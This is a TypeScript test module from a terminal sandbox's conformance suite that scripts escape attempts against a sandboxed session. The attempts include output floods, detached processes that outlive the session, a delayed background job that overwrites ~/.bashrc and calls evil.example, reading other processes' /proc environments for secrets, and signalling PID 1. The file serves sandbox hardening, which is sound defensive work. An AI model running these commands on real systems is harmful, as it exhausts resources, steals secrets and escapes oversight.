import { statfsSync } from 'node:fs';
import { setTimeout as sleep } from 'node:timers/promises';
import { run } from '../../../../src/testing/conformance/terminal-commands.ts';
import { inC, python, type EscapeTheme } from './attempt.ts';

/** To use up what others need, and to act after the call. Small, so that the machine that tries it goes on; what is not bounded is told in the proof. */
export const limits: EscapeTheme = ({ project, mark }) => ({
  'more output than anybody keeps': {
    tries: async (terminal) => {
      const { output } = await run(terminal, 'head -c 40000000 /dev/zero | tr "\\0" x', { timeoutMs: 15_000, maxOutput: 10_000 });
      return output.length > 60_000 ? `canary-7f3a91c2 ${output.length} characters were kept` : '';
    },
  },
  'output that never ends a line, and signs that rule a screen':
    'printf "\\033]0;x\\007\\033[2J\\033P$qm\\033\\\\"; head -c 3000000 /dev/urandom | base64 -w0 | tail -c 100',
  'a snapshot larger than is carried over': 'X=$(head -c 3000000 /dev/zero | tr "\\0" x); export X; true',
  'many processes, gone with the time-out': {
    tries: async (terminal) => {
      const seconds = 100_000 + process.pid;
      await run(terminal, `for i in $(seq 200); do (setsid sleep ${seconds} &) ; done; sleep 30`, { timeoutMs: 3_000 });
      const { output } = await run(terminal, 'ps ax | grep -c sleep');
      await terminal[Symbol.asyncDispose]();
      await sleep(200);
      const left = (await import('node:child_process'))
        .spawnSync('pgrep', ['-fc', `^sleep ${seconds}$`], { encoding: 'utf8' })
        .stdout.trim();
      return left === '0' ? `went on ${output}` : `canary-7f3a91c2 ${left} processes are left`;
    },
  },
  'a file of the session’s own /tmp, gone with it': {
    tries: async (terminal) => {
      const { bavail } = statfsSync('/tmp');
      await run(terminal, 'head -c 50000000 /dev/zero > /tmp/big; head -c 50000000 /dev/zero > /run/hermes/room/big');
      await terminal[Symbol.asyncDispose]();
      const now = statfsSync('/tmp');
      return (bavail - now.bavail) * now.bsize > 45_000_000 ? 'canary-7f3a91c2 it is still there' : 'went on';
    },
  },
  'wait until the call is over, then act': {
    tries: async (terminal) => {
      await run(
        terminal,
        `(setsid bash -c 'sleep 0.3; touch ${mark}; echo x > ~/.bashrc; curl -s -m1 -x http://127.0.0.1:14128 http://evil.example/' </dev/null >/dev/null 2>&1 &); true`,
      );
      await sleep(900);
      return '';
    },
  },
  'wait for the command of another': {
    tries: async (terminal) => {
      const lurks = await terminal.start(
        python(`import os,time
end=time.time()+2
while time.time()<end:
  for p in os.listdir("/proc"):
    if p.isdigit() and int(p)>2 and int(p)!=os.getpid():
      try:
        e=open("/proc/%s/environ"%p).read()
        if "OWNER_ONLY" in e: print("canary-"+"7f3a91c2","environment of the way in")
        r=os.readlink("/proc/%s/root"%p)
        if open("/proc/%s/root${mark.replace('/ran', '/key')}"%p): print("canary-"+"7f3a91c2","the root of the way in")
      except OSError: pass`),
        { maxOutput: 5_000 },
      );
      for (let at = 0; at < 15; at++) await run(terminal, 'true');
      await sleep(300);
      const told = lurks.output();
      await lurks.kill();
      return told;
    },
  },
  'stop or slow down what looks after it': inC(`import signal
for p in (1,os.getppid()):
  try: os.kill(p,signal.SIGSTOP if p==1 else signal.SIGCONT)
  except OSError as e: print(e)
for who in (0,):
  try: os.setpriority(os.PRIO_PROCESS,0,-20); won("it runs before all others")
  except OSError as e: print(e)
try: os.sched_setscheduler(0,os.SCHED_FIFO,os.sched_param(50)); won("in real time")
except OSError as e: print(e)
try:
  import resource; resource.setrlimit(resource.RLIMIT_MEMLOCK,(resource.RLIM_INFINITY,resource.RLIM_INFINITY)) if resource.getrlimit(resource.RLIMIT_MEMLOCK)[1]!=resource.RLIM_INFINITY else None; print("limits",resource.getrlimit(resource.RLIMIT_MEMLOCK))
except (OSError,ValueError) as e: print(e)`),
  'a folder too deep to be looked through': `cd ${project}; for i in $(seq 300); do mkdir -p d && cd d || break; done; mkdir -p .git/hooks .vscode; echo x > .envrc; cd ${project}; rm -rf d`,
  'very many folders in the project': `mkdir -p many && cd many && mkdir $(seq 1500) && cd .. && rm -rf many`,
});
